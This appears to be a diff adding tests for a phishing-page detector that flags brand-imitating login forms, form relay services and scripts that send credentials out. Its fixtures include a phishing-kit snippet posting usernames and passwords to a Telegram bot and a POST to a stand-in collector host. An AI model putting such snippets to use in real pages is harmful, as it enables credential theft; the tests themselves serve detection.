@@ -137,7 +137,29 @@ def test_zip_and_promo_codes_are_not_one_time_codes():
     ],
 )
 def test_tiktok_branding_sources(html):
-    assert f(html)["credential.tiktok_branded"] == 1
+    login = '<form><input name="username"><input type="password"><button>Log in</button></form>'
+    assert f(html + login)["credential.tiktok_branded"] == 1
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        "<h1>TikTok Followers</h1><p>Tips to grow an audience.</p>",
+        '<img src="/a.png" alt="TikTok"><p>Our new downloader saves your own videos.</p>',
+        '<title>TikTok Video Downloader</title><form><input type="url"><button>Download</button>'
+        "</form>",
+        "<title>Log in with TikTok - Postplanner</title><p>Schedule your posts.</p>",
+        "<title>Casa Blog</title><p>Welcome back to the Casa Blog members area.</p><form>"
+        '<input type="password"><button>Log in</button></form><p>We also post on TikTok.</p>',
+    ],
+)
+def test_mentioning_tiktok_without_a_branded_login_is_not_styled_as_tiktok(html):
+    # A brand mention, a tool named after TikTok, or a login that is not TikTok's.
+    assert f(html)["credential.tiktok_branded"] == 0
+
+
+def test_a_title_that_is_a_tiktok_log_in_is_branded_on_its_own():
+    assert f("<title>Log in | TikTok</title>")["credential.tiktok_branded"] == 1
 
 
 def test_articles_about_tiktok_are_not_styled_as_tiktok():
@@ -594,3 +616,74 @@ def test_lexicon_patterns_are_lower_case_because_text_is(name):
     lex = {k: v for k, v in load_lexicon(name).items() if k not in ("version", "description")}
     upper = [s for s in _strings(lex) if s != s.lower()]
     assert upper == []
+
+
+# --- relays and kit scripts stored on their own --------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        '<form action="https://formspree.io/f/abcd" method="post"><input type="password"></form>',
+        "<script>fetch('https://script.google.com/macros/s/XYZ/exec', {method: 'POST'})</script>",
+        "<script>$.ajax({url: 'https://webhook.site/0000-1111', type: 'POST'})</script>",
+    ],
+)
+def test_relay_services(html):
+    assert f(html, url="")["credential.relay_service"] == 1
+
+
+def test_own_server_is_not_a_relay_service():
+    html = '<form action="/session" method="post"><input type="password"></form>'
+    assert f(html, url="")["credential.relay_service"] == 0
+
+
+JS_FILE = """const TOKEN = "123:abc"; const CHAT = "42";
+function send(user, pass) {
+  const url = `https://api.telegram.org/bot${TOKEN}/sendMessage`;
+  fetch(url, {method: "POST", body: JSON.stringify({chat_id: CHAT, text: user + pass})});
+}
+document.querySelector("form").addEventListener("submit", (e) => { send(a, b); });"""
+
+
+def test_a_kit_script_stored_as_a_page_is_read_as_script():
+    feats = f(JS_FILE, url="")
+    assert feats["credential.telegram_bot"] == 1
+    assert feats["credential.js_exfil"] == 1
+
+
+def test_prose_about_bots_is_not_read_as_script():
+    prose = (
+        "<p>Our guide explains how a function of the Telegram API works: the address "
+        "api.telegram.org/bot followed by a token. Let me show you the window settings.</p>"
+    )
+    assert f(prose, url="")["credential.js_exfil"] == 0
+
+
+LOGIN_FORM = (
+    '<form action="post.php" method="post"><input name="username" placeholder="Phone, username'
+    ' or email"><input type="password"><button>Log in</button></form>'
+)
+
+
+@pytest.mark.parametrize(
+    ("html", "url", "fired"),
+    [
+        ("<title>Log In • Snapchat</title>" + LOGIN_FORM, "", 1),
+        ('<img src="/img/insta-logo.png" alt="Instagram">' + LOGIN_FORM, "", 1),
+        ("<title>Instagram</title>" + LOGIN_FORM, "https://insta-followers.example/", 1),
+        ("<title>Instagram</title>" + LOGIN_FORM, "https://www.instagram.com/accounts/login/", 0),
+        ("<title>Sign in with Facebook - Planly</title>" + LOGIN_FORM, "", 0),
+        ("<title>Acme CRM</title>" + LOGIN_FORM, "", 0),
+        ("<title>Instagram tips</title><p>How to grow.</p>", "", 0),
+    ],
+)
+def test_login_pages_dressed_as_another_network(html, url, fired):
+    assert f(html, url=url)["credential.social_login_clone"] == fired
+
+
+def test_calls_to_a_networks_own_graph_api_are_not_exfiltration():
+    html = "<script>fetch(`https://graph.facebook.com/v19.0/me?access_token=${t}`)</script>"
+    assert f(html, url="")["credential.js_exfil"] == 0
+    html = "<script>fetch('https://collector.example/save', {method: 'POST'})</script>"
+    assert f(html, url="")["credential.js_exfil"] == 1
